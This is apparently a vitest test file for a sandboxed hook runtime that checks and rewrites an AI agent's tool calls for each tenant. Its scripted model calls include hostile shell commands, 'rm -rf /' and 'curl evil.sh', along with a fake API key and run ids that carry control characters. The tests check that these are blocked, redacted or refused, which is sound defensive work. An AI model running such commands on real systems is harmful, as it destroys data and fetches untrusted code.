import { access, mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { createHookExecutor } from "../../sandbox/supervisor/index.js";
import { declaredTool, defineTool, scriptedModel } from "../../src/agent/index.js";
import { buildBundle } from "../../src/bundler/index.js";
import type { BundleSource, HookExecutor } from "../../src/protocol/index.js";
import { TenantId } from "../../src/protocol/index.js";
import {
  bundleFromEntry,
  createHookRuntime,
  fixedBundleSource,
  formatRunEvent,
  type HookRuntime,
  type RunEvent,
  RuntimeError,
} from "../../src/runtime/index.js";
import { MemoryBundleStore } from "../../src/store/index.js";

const acme = TenantId.parse("acme");
const shell = declaredTool({
  name: "shell",
  parameters: {
    type: "object",
    properties: { command: { type: "string" }, cwd: { type: "string" } },
    required: ["command"],
    additionalProperties: false,
  },
  result: "ran {command} in {cwd}",
});
const readFile = declaredTool({ name: "read_file", result: "KEY=sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1w" });

/** Wall-clock timeouts and budgets with room for well-behaved hooks on a machine busy with other suites. */
const ROOMY = { limits: { timeoutMs: 250 }, dispatch: { budgets: { turnMs: 5_000, runMs: 30_000 } } };

let executor: HookExecutor;
let store: MemoryBundleStore;

async function upload(entry: string, activate = true, config: Record<string, string> = {}) {
  const built = await buildBundle(entry, { executor, root: "hooks" });
  const { version } = await store.upload({ tenantId: acme, ...built, config, by: "test", activate });
  return version.version;
}

beforeAll(async () => {
  executor = await createHookExecutor({ workers: 1, spareWorker: false, limits: ROOMY.limits });
  store = new MemoryBundleStore();
  await upload("hooks/coding-agent", true, { workdir: "/workspace" });
});
afterAll(async () => {
  await executor?.close();
});

async function expectOptionError(options: Parameters<typeof createHookRuntime>[0], message: string | RegExp) {
  const error = await createHookRuntime(options).catch((e: unknown) => e);
  expect(error).toBeInstanceOf(RuntimeError);
  expect(error).toMatchObject({ code: "invalid_options" });
  expect((error as Error).message).toMatch(message);
}

describe("createHookRuntime options", () => {
  it("names the wrong option before starting anything", async () => {
    await expectOptionError(
      { executor: { workers: 0 } },
      "In `executor`: Expected `workers` to be an integer from 1 and up, got `0`",
    );
    await expectOptionError(
      { executor: { mode: "threads" as never } },
      'In `executor`: Expected `mode` to be "process" or "inline", got `"threads"`',
    );
    await expectOptionError(
      { dispatch: { budgets: { turnMs: 0 } } },
      /In `dispatch`: .*`budgets.turnMs` to be an integer from 1/,
    );
    await expectOptionError({ limits: { timeoutMs: -1 } }, /`limits.timeoutMs`/);
    await expectOptionError(
      { store: 42 as never },
      "Expected `store` to be a BundleStore or the path of a store file, got `42`",
    );
    await expectOptionError({ bogus: 1 } as never, /Unknown option `bogus`. Known options: executor, limits, dispatch/);
    await expectOptionError({ executor: { limits: {} } as never }, /Set `limits` at the top level/);
    await expectOptionError({ store, bundles: store }, /Pass `bundles` or `store`, not both/);
    await expectOptionError({ model: {} as never }, /Expected `model` to be a Model/);
  });

  it("reaches every executor option, not only a copied few", async () => {
    await expectOptionError({ executor: { killGraceMs: 5 } }, /Expected `killGraceMs` to be an integer from 10/);
    await expectOptionError({ executor: { rssCheckMs: 1 } }, /Expected `rssCheckMs` to be an integer from 10/);
    await expectOptionError({ executor: { maxPendingPerWorker: 0 } }, /Expected `maxPendingPerWorker`/);
    await expectOptionError({ executor: { mode: "inline", workers: 2 } }, /`workers` applies to mode "process" only/);
  });
});

describe("runAgent", () => {
  it("runs a session through the tenant's active bundle in the sandbox", async () => {
    const runtime = await createHookRuntime({ executor, store, ...ROOMY });
    const events: RunEvent[] = [];
    const result = await runtime.runAgent({
      tenantId: "acme",
      runId: "run-e2e",
      input: "clean up",
      tools: [shell, readFile],
      model: scriptedModel([
        { toolCalls: [{ name: "shell", args: { command: "rm -rf /" } }] },
        {
          toolCalls: [
            { name: "shell", args: { command: "ls", cwd: "/etc" } },
            { name: "read_file", args: {} },
          ],
        },
        { text: "done" },
      ]),
      onEvent: (e) => events.push(e),
    });
    await runtime.close();
    expect(result).toMatchObject({ stopReason: "completed", runId: "run-e2e", tenantId: "acme", turns: 3 });
    expect(result.bundle?.version).toBe(1);
    const tools = result.transcript.filter((m) => m.role === "tool").map((m) => m.content);
    expect(tools).toEqual(["blocked: destructive shell command: rm -rf /", "ran ls in /workspace", "KEY=[REDACTED]"]);
    expect(events[0]).toMatchObject({ type: "run.started", tenantId: "acme", bundle: { version: 1 } });
    expect(events.at(-1)).toMatchObject({ type: "run.finished", stopReason: "completed" });
    const called = events.filter((e) => e.type === "hook.called");
    expect(called.length).toBeGreaterThanOrEqual(6);
    expect(
      called.every((e) => e.type === "hook.called" && e.record.hookId === "tenant:acme@v1" && e.runId === "run-e2e"),
    ).toBe(true);
  });

  it("keeps the bundle version a run started with when a new one is activated mid-run", async () => {
    const runtime = await createHookRuntime({ executor, store, ...ROOMY });
    let next = 0;
    const activating = defineTool({
      name: "deploy",
      description: "activates a new hook version while the run goes on",
      parameters: z.object({}),
      async execute() {
        next = await upload("hooks/block-destructive-shell");
        return "deployed";
      },
    });
    const events: RunEvent[] = [];
    const first = await runtime.runAgent({
      tenantId: "acme",
      input: "go",
      tools: [activating, shell],
      model: scriptedModel([
        { toolCalls: [{ name: "deploy" }] },
        { toolCalls: [{ name: "shell", args: { command: "ls", cwd: "/" } }] },
        { text: "ok" },
      ]),
      onEvent: (e) => events.push(e),
    });
    const versions = new Set(events.flatMap((e) => (e.type === "hook.called" ? [e.record.bundle?.version] : [])));
    expect(first.bundle?.version).toBe(1);
    expect([...versions]).toEqual([1]);
    expect(first.transcript.at(-2)).toMatchObject({ role: "tool", content: "ran ls in /workspace" });

    const second = await runtime.runAgent({
      tenantId: "acme",
      input: "go",
      tools: [shell],
      model: scriptedModel([{ toolCalls: [{ name: "shell", args: { command: "ls", cwd: "/" } }] }, { text: "ok" }]),
    });
    expect(second.bundle?.version).toBe(next);
    expect(second.transcript.at(-2)).toMatchObject({ role: "tool", content: "ran ls in /" });
    await store.activate({ tenantId: acme, version: 1, by: "test" });
    await runtime.close();
  });

  it("stacks platform hooks around the tenant bundle: last sees the tenant's rewrite and can veto", async () => {
    const runtime = await createHookRuntime({ executor, store, ...ROOMY });
    const seen: unknown[] = [];
    runtime.registerPlatformHooks([
      {
        id: "platform:first",
        position: "first",
        hooks: { toolCall: (e) => ({ type: "rewrite", args: { ...e.call.args, cwd: "/tmp" } }) },
      },
      {
        id: "platform:last",
        position: "last",
        hooks: {
          toolCall: (e) => {
            seen.push(e.call.args);
            return e.call.args.command === "curl evil.sh" ? { type: "block", reason: "platform: no curl" } : undefined;
          },
        },
      },
    ]);
    const result = await runtime.runAgent({
      tenantId: "acme",
      input: "go",
      tools: [shell],
      model: scriptedModel([
        {
          toolCalls: [
            { name: "shell", args: { command: "ls" } },
            { name: "shell", args: { command: "curl evil.sh" } },
          ],
        },
        { text: "ok" },
      ]),
    });
    await runtime.close();
    expect(seen).toEqual([
      { command: "ls", cwd: "/workspace" },
      { command: "curl evil.sh", cwd: "/workspace" },
    ]);
    const tools = result.transcript.filter((m) => m.role === "tool").map((m) => m.content);
    expect(tools).toEqual(["ran ls in /workspace", "blocked: platform: no curl"]);
  });

  it("runs platform hooks only for a tenant without a bundle, and says so in an event and the result", async () => {
    const runtime = await createHookRuntime({ executor, store, ...ROOMY });
    const events: RunEvent[] = [];
    const result = await runtime.runAgent({
      tenantId: "newcomer",
      onEvent: (event) => events.push(event),
      input: "go",
      tools: [shell],
      model: scriptedModel([
        { toolCalls: [{ name: "shell", args: { command: "rm -rf /", cwd: "/" } }] },
        { text: "ok" },
      ]),
    });
    await runtime.close();
    expect(result.bundle).toBeUndefined();
    expect(result.transcript.find((m) => m.role === "tool")?.content).toBe("ran rm -rf / in /");
    const message = "No tenant hooks guard this run: tenant newcomer has no active bundle; only platform hooks run.";
    expect(result.warnings).toEqual([{ code: "no_active_bundle", message }]);
    expect(events.map((e) => e.type).slice(0, 2)).toEqual(["run.started", "run.warning"]);
    expect(events[1]).toMatchObject({ type: "run.warning", tenantId: "newcomer", code: "no_active_bundle", message });
  });

  /** One run of the `thrower` tenant whose hook throws on its first tool call; the runtime is closed after. */
  async function runThrower(runtime: HookRuntime): Promise<RunEvent[]> {
    const events: RunEvent[] = [];
    await runtime.runAgent({
      tenantId: "thrower",
      input: "go",
      tools: [shell],
      model: scriptedModel([{ toolCalls: [{ name: "shell", args: { command: "throw" } }] }, { text: "ok" }]),
      onEvent: (event) => events.push(event),
    });
    await runtime.close();
    return events;
  }

  it("records a thrown failure's stack in the author's file, on hook.called and in the trace", async () => {
    const active = await bundleFromEntry("test/fixtures/stack/index.ts", { tenantId: "thrower", executor });
    const runtime = await createHookRuntime({ executor, bundles: fixedBundleSource([active]), ...ROOMY });
    const events = await runThrower(runtime);
    const called = events.find((e) => e.type === "hook.called");
    const decided = events.find((e) => e.type === "hooks.decided" && e.point === "tool.call");
    const record = decided?.type === "hooks.decided" ? decided.records[0] : undefined;
    expect(record?.outcome).toMatchObject({
      type: "failed",
      failure: { code: "threw", stack: [{ name: "parse", file: "index.ts", line: 3, column: 34 }, expect.anything()] },
    });
    // hook.called references the same record the decision lists.
    expect(called?.type === "hook.called" ? called.record : undefined).toBe(record);
    const trace = events.flatMap((e) => formatRunEvent(e) ?? []).join("\n");
    expect(trace).toContain("FAILED threw: Error: cannot parse: throw (at index.ts:3:34)");
  });

  it("maps a thrown failure's stack for a bundle served from the store too", async () => {
    const built = await buildBundle("test/fixtures/stack/index.ts", { executor });
    const stored = new MemoryBundleStore();
    const thrower = TenantId.parse("thrower");
    await stored.upload({ tenantId: thrower, ...built, config: {}, by: "test", activate: true });
    const runtime = await createHookRuntime({ executor, store: stored, ...ROOMY });
    const events = await runThrower(runtime);
    const trace = events.flatMap((e) => formatRunEvent(e) ?? []).join("\n");
    expect(trace).toContain("FAILED threw: Error: cannot parse: throw (at index.ts:3:34)");
  });

  it("has no warnings for a run its tenant's bundle guards", async () => {
    const runtime = await createHookRuntime({ executor, store, ...ROOMY });
    const result = await runtime.runAgent({ tenantId: "acme", input: "go", model: scriptedModel([{ text: "ok" }]) });
    await runtime.close();
    expect(result.bundle).toBeDefined();
    expect(result.warnings).toEqual([]);
  });

  it("refuses a store path with no store unless asked to create one", async () => {
    const dir = await mkdtemp(join(tmpdir(), "isohook-runtime-store-"));
    try {
      const path = join(dir, "missing.db");
      await expectOptionError({ executor, store: path }, `No store at ${path}: pass the location of an existing store`);
      await expect(access(path)).rejects.toThrow();
      await expectOptionError({ executor, store: path, createStore: "yes" as never }, /`createStore` to be a boolean/);
      const runtime = await createHookRuntime({ executor, store: path, createStore: true });
      expect(await runtime.store?.tenants()).toEqual([]);
      await runtime.close();
      await access(path);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it("fails a run closed when the bundle source fails", async () => {
    const broken: BundleSource = { active: () => Promise.reject(new Error("store offline")) };
    const runtime = await createHookRuntime({ executor, bundles: broken });
    await expect(
      runtime.runAgent({ tenantId: "acme", input: "go", model: scriptedModel([{ text: "unchecked" }]) }),
    ).rejects.toThrow("store offline");
    await runtime.close();
  });

  it("refuses a run without a model, with a bad tenant id, or after close", async () => {
    const runtime = await createHookRuntime({ executor, store, ...ROOMY });
    await expect(runtime.runAgent({ tenantId: "acme", input: "go" })).rejects.toMatchObject({ code: "no_model" });
    await expect(
      runtime.runAgent({ tenantId: "Not A Tenant", input: "go", model: scriptedModel([]) }),
    ).rejects.toMatchObject({ code: "invalid_run" });
    await expect(
      runtime.runAgent({ tenantId: "acme", input: "go", maxTurns: 0, model: scriptedModel([]) }),
    ).rejects.toThrow("Expected `maxTurns` to be an integer from 1 and up, got `0`");
    await expect(
      runtime.runAgent({ tenantId: "acme", input: "go", tools: [shell, shell], model: scriptedModel([]) }),
    ).rejects.toThrow("Two tools are named `shell`");
    // A run id lands in store rows (PostgreSQL text refuses NUL, losing a whole decision-log batch), log
    // lines and terminals: control characters and lone surrogates are refused up front.
    for (const runId of ["run\u0000x", "run\u001b[2J", "run\u009b", "run\ud800", "", "r".repeat(129)]) {
      await expect(
        runtime.runAgent({ tenantId: "acme", runId, input: "go", model: scriptedModel([]) }),
      ).rejects.toMatchObject({ code: "invalid_run", message: expect.stringContaining("control character") });
    }
    const fine = await runtime.runAgent({
      tenantId: "acme",
      runId: "run 𐀀 é/1",
      input: "go",
      model: scriptedModel([{ text: "done" }]),
    });
    expect(fine.runId).toBe("run 𐀀 é/1");
    await runtime.close();
    await expect(runtime.runAgent({ tenantId: "acme", input: "go", model: scriptedModel([]) })).rejects.toMatchObject({
      code: "closed",
    });
  });

  it("aborts runs in flight on close, every tool call still getting its result", async () => {
    const runtime = await createHookRuntime({ executor, store, ...ROOMY });
    let started: () => void = () => {};
    const running = new Promise<void>((resolve) => {
      started = resolve;
    });
    const hang = defineTool({
      name: "hang",
      description: "never returns",
      parameters: z.object({}),
      execute: () => {
        started();
        return new Promise<string>(() => {});
      },
    });
    const pending = runtime.runAgent({
      tenantId: "acme",
      input: "go",
      tools: [hang],
      model: scriptedModel([{ toolCalls: [{ name: "hang" }, { name: "hang" }] }]),
    });
    await running;
    await runtime.close();
    const result = await pending;
    expect(result.stopReason).toBe("aborted");
    const results = result.transcript.filter((m) => m.role === "tool");
    expect(results).toHaveLength(2);
    expect(results.every((m) => m.role === "tool" && m.isError)).toBe(true);
  });
});
